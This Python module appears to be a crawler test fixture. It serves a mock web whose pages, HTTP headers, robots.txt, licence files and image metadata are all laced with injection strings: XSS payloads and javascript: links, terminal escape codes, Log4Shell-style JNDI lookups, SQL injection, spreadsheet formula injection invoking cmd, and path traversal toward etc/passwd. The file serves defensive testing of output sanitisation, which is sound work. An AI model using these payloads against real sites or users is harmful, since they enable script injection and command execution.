# ruff: noqa: E501 - what is said is said on one line
"""A web that says, wherever a server can say something, what must not reach a reader as anything but words."""

from __future__ import annotations

import html
import json
from dataclasses import dataclass

from crawler.demo.answer import Answer, Responder, page, redirect, text, typed
from crawler.demo.images import jpeg, png, xmp

EVIL = "evil"
"""In every name that only a stranger's words could have put into a document."""

CONTROLS = "\x07\x1b[38;5;201m\x1b]0;evil\x07\x1b]8;;http://evil-link.example/\x1b\\\x9b2J\x08\x7f\x85"
BIDI = "\u202e\u2066\u061c\u200f\u200b\u200d\ufeff\u2028\u2029\U000e0041\ue000"
MARKUP = (
    "<script>evil(1)</script></title></textarea></style></code></p><evil-tag evil='1'>"
    "\"><img src=evil onerror=evil(2)><a href='javascript:evil(3)'>x</a>' onmouseover='evil(4)"
    "<svg onload=evil(5)><!-- evil --><base href=http://evil-link.example/>]]>&#x3c;evil-tag&#x3e;"
)
MARKDOWN = (
    "[evil](http://evil-link.example/) ![evil](http://evil-link.example/i) `x` ``y`` | a | b |\n\n# evil heading"
    "\n\n---\nevil_key: 1\n---\n\n<http://evil-link.example/a>\n[evil]: http://evil-link.example/d\n```\n~~~\n"
)
TEMPLATES = "{{7*7}}{%evil%}${jndi:ldap://evil}%s%n%(evil)s{0.__class__}'); DROP TABLE item;--\\r\\n\\x1b"
FORMULAS = ("=HYPERLINK(1)", "+cmd|'/C evil'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1")
"""What a spreadsheet takes for a formula."""

WORDS = f"=1+1{CONTROLS}{BIDI}{MARKUP}{TEMPLATES}{MARKDOWN}"
"""All of it, but for what no text in UTF-8 can hold."""
LINE = " ".join(WORDS.split())
"""On one line, for places that end with theirs."""
PRINTED = "".join(one for one in LINE if one.isprintable())
"""What may be printed of it: what an operator's own fields, which hold no control characters, can say."""
HEADER = LINE.encode("utf-8", "replace").decode("latin-1").replace("\x0b", "").replace("\0", "")
"""For a header line: its octets, which a reader takes for Latin-1."""
BROKEN = b"\xed\xa0\x80\xff\xfe\0"
"""A lone surrogate, octets that begin nothing, and NUL."""


@dataclass(frozen=True, kw_only=True, slots=True)
class Spoken(Answer):
    """An answer with words of its own behind the status."""

    phrase: str = ""
    """These words."""

    def head(self, *extra, encoding=None):
        first, blank, rest = Answer.head(self, *extra, encoding=encoding).partition(b"\r\n")
        return b" ".join(first.split(b" ")[:2]) + b" " + self.phrase.encode("latin-1") + blank + rest


def formulas() -> str:
    """A page for each way in which a formula can begin, as links."""
    return "".join(f'<p><a href="/formula/{n}">{n}</a></p>' for n in range(len(FORMULAS)))


def first(words: str) -> str:
    """For a page, the first character as a reference, so that no parser trims it."""
    return f"&#{ord(words[0])};{html.escape(words[1:])}"


def attribute(words: str = WORDS) -> str:
    """For an attribute in double quotes; NUL as a reference to it."""
    return html.escape(words) + "&#0;&#xd800;"


PATHS = (
    "/<script>evil(1)</script>",
    "/%0a%0d%1b%5b2J%e2%80%ae%00%7f%c2%9b",
    "/\u202e\u200bhidden\x1b[2J\x7f",
    "/=1+1",
    "/{{7*7}}${jndi:x}%s",
    "/[evil](http:%2f%2fevil-link.example)",
    "/`x`|y|*z*_w_",
    "/?q=\"><img src=evil onerror=evil(1)>&r='--",
    "/..%2f..%2fetc%2fpasswd",
    "/a%20b#<evil-tag>",
    "/javascript:evil(1)",
)
"""Paths with pages behind them."""

FRONT = (
    f'<!doctype html><html lang="{attribute("de")}"><head><title>{html.escape(WORDS)}</title>'
    f'<meta name="author" content="{attribute()}"><meta name="dc.rights" content="{attribute()}">'
    f'<meta property="og:title" content="{attribute()}"><meta name="robots" content="{attribute()}">'
    f'<meta property="article:published_time" content="{attribute()}"><meta name="date" content="{attribute()}">'
    '<link rel="license" href="javascript:evil(1)"><link rel="canonical" href="javascript:evil(1)">'
    '<script type="application/ld+json">'
    + json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "Article",
            "headline": WORDS,
            "name": WORDS,
            "license": "javascript:evil(1)",
            "creditText": WORDS,
            "copyrightNotice": WORDS + "\ud800",
            "author": {"@type": "Person", "name": WORDS + "\0", "url": "javascript:evil(1)", "email": LINE},
            "datePublished": WORDS,
        }
    ).replace("</", "<\\/")
    + f"</script></head><body><h1>{html.escape(WORDS)}</h1>{formulas()}"
    + "".join(f'<a href="{html.escape(path)}">{html.escape(WORDS)}</a>' for path in PATHS)
    + f'<figure><img src="/free.png" alt="{attribute()}"><figcaption>{html.escape(WORDS)}</figcaption></figure>'
    f'<img src="/marked.jpg" alt="@SUM(1)"><img src="/typed" alt="-1+1">'
    '<a href="/no">no</a><a href="/header">h</a><a href="/status">s</a><a href="/moved">m</a><a href="/js">j</a>'
    '<a href="/tdm">t</a><a href="/rsl">r</a><a href="/paid">p</a><a href="/gone">g</a><a href="/closed/x">c</a>'
    '<a href="/by">b</a><a href="/wait">w</a>'
    '<a href="http://reserved.example:{port}/">r</a><a href="http://xn--evl-8ma.example:{port}/">i</a>'
    '<a href="http://terms.example:{port}/">t</a><a href="http://down.example:{port}/">d</a><a href="mailto:evil@evil.example?subject=%0a%3Cevil-tag%3E">m</a>'
    "<p>"
    + "The gardener waters the roses every morning before the visitors arrive. " * 6
    + "</p></body></html>"
)

TDM = json.dumps(
    [
        {"location": "/tdm", "tdm-reservation": 1, "tdm-policy": "javascript:evil(1)", "evil": WORDS},
        {"location": "/wait" + LINE, "tdm-reservation": 1, "tdm-policy": "http://reserved.example/" + LINE},
    ]
)

ROBOTS = (
    f"# Contact: =cmd@evil.example {LINE} <evil-tag>@evil.example\nUser-agent: *\nDisallow: /closed/\n"
    f"Disallow: /closed/x{LINE}\nUser-agent: {LINE}\nDisallow: /\n"
).encode("utf-8", "replace") + BROKEN
MORE_ROBOTS = (
    f"User-agent: *\nContent-Signal: ai-train=yes, {LINE}\nSitemap: http://evil-link.example/{LINE}\n"
    f"License: javascript:evil(1)\nLicense: http://evil-link.example/{LINE}\n"
)

RSL = (
    '<rsl xmlns="https://rslstandard.org/rsl"><content url="/rsl" licensor="{w}"><license><prohibits type="usage">'
    'all</prohibits><payment type="purchase"><custom>{w}</custom><standard>javascript:evil(1)</standard></payment>'
    '<legal type="warranty">{w}</legal></license><copyright type="person" contactEmail="{w}" contactUrl='
    '"javascript:evil(1)">{w}</copyright><terms>javascript:evil(1)</terms></content></rsl>'
).replace("{w}", html.escape("".join(one for one in LINE if one >= " " and one != "\x7f")))

CREDITS = (
    "<dc:creator><rdf:Seq><rdf:li>{w}</rdf:li></rdf:Seq></dc:creator><dc:rights><rdf:Alt>"
    '<rdf:li xml:lang="x-default">{w}</rdf:li></rdf:Alt></dc:rights>'
).replace("{w}", html.escape("".join(one for one in LINE if one >= " " and one != "\x7f")))


def table() -> dict[str, dict[str, Responder]]:
    """The web."""
    a: dict[str, Responder] = {
        "/robots.txt": typed("text/plain", ROBOTS),
        "/.well-known/tdmrep.json": typed("application/json", TDM),
        "/.well-known/security.txt": text(
            f"Contact: mailto:{LINE}\nContact: javascript:evil(1)\nPolicy: {LINE}\n"
        ),
        "/trust.txt": text(f"contact={LINE}\ndatatrainingallowed=yes\n"),
        "/": page(FRONT, ("ETag", f'"{HEADER}"'), ("Server", HEADER), ("Last-Modified", HEADER)),
        "/free.png": typed("image/png", png(200, 10, 3, 16, 16)),
        "/marked.jpg": typed("image/jpeg", jpeg(7, xmp=xmp(extra=CREDITS))),
        "/typed": Answer(headers=(("Content-Type", f'image/png; x="{HEADER}"'),), body=png(1, 200, 3, 16, 16)),
        "/no": page(f'<title>=1</title><meta name="robots" content="noai, {attribute()}"><p>no</p>'),
        "/header": page(
            "<p>header</p>",
            ("X-Robots-Tag", "noai, " + HEADER),
            ("Content-Usage", "train-ai=n;" + HEADER),
            ("Content-Signal", "ai-train=no, " + HEADER),
            ("Link", f'<javascript:evil(1)>; rel=license; title="{HEADER}"'),
        ),
        "/status": Spoken(
            status=403, phrase=HEADER, headers=(("WWW-Authenticate", HEADER), ("Retry-After", HEADER))
        ),
        "/moved": Answer(status=302, headers=(("Location", "/target?" + HEADER),)),
        "*": page("<title>-1+1</title><p>words that anybody may keep</p>"),
        "/js": redirect("javascript:evil(1)"),
        "/tdm": page("<p>tdm</p>"),
        "/rsl": page("<p>rsl</p>", ("Link", '</licence.xml>; rel="license"; type="application/rsl+xml"')),
        "/licence.xml": typed("application/rsl+xml", RSL),
        "/paid": Answer(status=402, headers=(("crawler-price", HEADER), ("Link", HEADER)), body=LINE),
        "/gone": Spoken(status=410, phrase=HEADER, body=LINE),
        "/closed/x": page("<p>closed</p>"),
        "/by": page(
            f'<title>+1</title><a rel="license" href="https://creativecommons.org/licenses/by/4.0/?{attribute()}">'
            f"{html.escape(WORDS)}</a><p>by</p>"
        ),
        "/wait": Spoken(status=503, phrase=HEADER, headers=(("Retry-After", "0"),)),
    }
    for number, formula in enumerate(FORMULAS):
        a[f"/formula/{number}"] = page(
            f"<title>{first(formula)}</title><p>formula {number}, and more words</p>"
            f'<meta name="author" content="{first(formula)}">'
        )
    return {
        "a.example": a,
        "reserved.example": {
            "/robots.txt": text(f"# mailto:=1+1@reserved.example {LINE}\nUser-agent: *\nDisallow: /\n"),
            "/.well-known/security.txt": text(f"Contact: mailto:{LINE}\nContact: javascript:evil(1)\n"),
        },
        "xn--evl-8ma.example": {"/robots.txt": text("User-agent: *\nAllow: /\n"), "*": page("<p>another</p>")},
        "terms.example": {"/robots.txt": text(MORE_ROBOTS), "*": page("<p>terms</p>")},
        "down.example": {"*": Spoken(status=500, phrase=HEADER, body=LINE)},
    }
